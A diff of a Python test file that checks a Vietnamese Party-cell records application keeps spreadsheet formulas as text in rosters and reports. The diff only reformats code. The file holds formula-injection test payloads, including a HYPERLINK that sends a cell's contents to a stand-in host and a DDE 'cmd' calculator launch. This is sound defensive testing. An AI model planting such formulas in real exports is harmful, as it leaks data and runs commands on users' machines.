@@ -21,7 +21,7 @@ pytestmark = pytest.mark.hostile
 
 HOSTILE = '=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào đây")'
 starts = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "=cmd|' /C calc'!A0", ""])
-controls = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x1f), max_size=3)
+controls = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x1F), max_size=3)
 words = st.text(alphabet=st.characters(categories=("L", "N", "P", "Zs")), max_size=12)
 hostile_text = st.builds(lambda a, b, c, d: a + b + c + d, starts, words, controls, words)
 
@@ -102,9 +102,17 @@ def test_reports_to_the_level_above_survive_any_text(session, tmp_path, text):
 def test_a_course_roster_keeps_a_formula_as_text(session, tmp_path):
     cell = make_cell(session, "Chi bộ thôn Nà Lầu")
     person = make_person(session, "Lương Hồng Lan", cell_id=cell)
-    course = courses.create_course(session, {
-        "kind": "awareness", "name": "Lớp bồi dưỡng nhận thức về Đảng", "intake": "Khóa I năm 2026",
-        "organiser": "Trung tâm Chính trị xã", "place": "Hội trường", "start_date": "2026-03-09"})
+    course = courses.create_course(
+        session,
+        {
+            "kind": "awareness",
+            "name": "Lớp bồi dưỡng nhận thức về Đảng",
+            "intake": "Khóa I năm 2026",
+            "organiser": "Trung tâm Chính trị xã",
+            "place": "Hội trường",
+            "start_date": "2026-03-09",
+        },
+    )
     courses.enrol(session, course, [person])
     with session.write():
         session.store.conn.execute("UPDATE cells SET name = ? WHERE id = ?", [HOSTILE + "\x07", cell])
